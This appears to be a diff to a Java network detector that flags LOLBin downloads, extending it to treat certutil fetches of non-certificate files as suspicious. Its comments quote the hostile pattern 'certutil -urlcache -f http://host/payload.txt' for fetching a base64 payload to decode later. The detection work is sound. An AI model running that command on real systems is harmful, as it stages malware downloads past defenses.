@@ -37,7 +37,10 @@ import java.util.Set;
  * <p>Evidence: {@link HttpTransaction} user agent; the content is executable when the response
  * body sniffs as {@code application/x-dosexec} (MZ), {@code application/x-executable} (ELF) or
  * {@code application/hta}, or the URI path ends in an executable or script extension
- * ({@code .exe .dll .scr .cpl .msi .hta .sct .ps1 .psm1 .vbs .vbe .js .jse .wsf .bat .cmd .jar}).
+ * ({@code .exe .dll .scr .cpl .msi .hta .sct .ps1 .psm1 .vbs .vbe .js .jse .wsf .bat .cmd .jar});
+ * for certutil, also any path with an extension that is not certificate business ({@code .crl
+ * .crt .cer .p7c .cab .stl ...}): {@code certutil -urlcache -f} fetching a base64 {@code .txt}
+ * to decode later.
  * The WinInet agent is "MSIE 7.0" together with "Trident/" or Windows NT 6.2 and later: the
  * compatibility-mode string WinInet sends for a host process that is not the browser (IE 7 never
  * ran on those systems), which is what mshta, regsvr32 and rundll32 send.
@@ -80,6 +83,8 @@ public final class LolbinDownloadDetector implements Detector<String, LolbinDown
     /** Office templates and macro documents a document can name as its remote template (T1221). */
     static final Set<String> TEMPLATE_EXTENSIONS = Set.of("dot", "dotm", "dotx", "docm", "xlt", "xltm", "xlam",
             "potm", "ppam", "rtf");
+    static final Set<String> CERTIFICATE_EXTENSIONS = Set.of("crl", "crt", "cer", "der", "pem", "p7c", "p7b", "p7m",
+            "cab", "stl", "sst", "ocsp");
     static final Set<String> EXECUTABLE_TYPES = Set.of("application/x-dosexec", "application/x-executable",
             "application/hta");
 
@@ -147,6 +152,17 @@ public final class LolbinDownloadDetector implements Detector<String, LolbinDown
         return ext != null && EXECUTABLE_EXTENSIONS.contains(ext) ? "the path ends in ." + ext : null;
     }
 
+    /**
+     * Why a CryptoAPI fetch is not certificate business, or null: Windows fetches certificates,
+     * CRLs, OCSP answers (base64 paths, no extension) and the root list's .cab/.stl through it;
+     * {@code certutil -urlcache -f http://host/payload.txt} fetches anything else.
+     */
+    static String notCertificate(HttpTransaction h) {
+        String ext = extension(h.uri());
+        return ext == null || CERTIFICATE_EXTENSIONS.contains(ext) ? null
+                : "the path ends in ." + ext + ", not a certificate, CRL or OCSP answer";
+    }
+
     /** The lower-case extension of a URI's path (query and fragment dropped), or null. */
     static String extension(String uri) {
         if (uri == null) return null;
@@ -181,6 +197,7 @@ public final class LolbinDownloadDetector implements Detector<String, LolbinDown
         Tool tool = tool(h);
         if (tool == null) return null;
         String why = "T1221".equals(tool.technique()) ? "a remote template (." + extension(h.uri()) + ")" : executable(h);
+        if (why == null && tool.name().startsWith("certutil")) why = notCertificate(h);
         if (why == null || trusted(h.host())) return null;
         String host = h.host() == null || h.host().isEmpty() ? h.id().respH() : h.host();
         boolean literal = DnsLookups.isAddressLiteral(DnsLookups.hostWithoutPort(host));
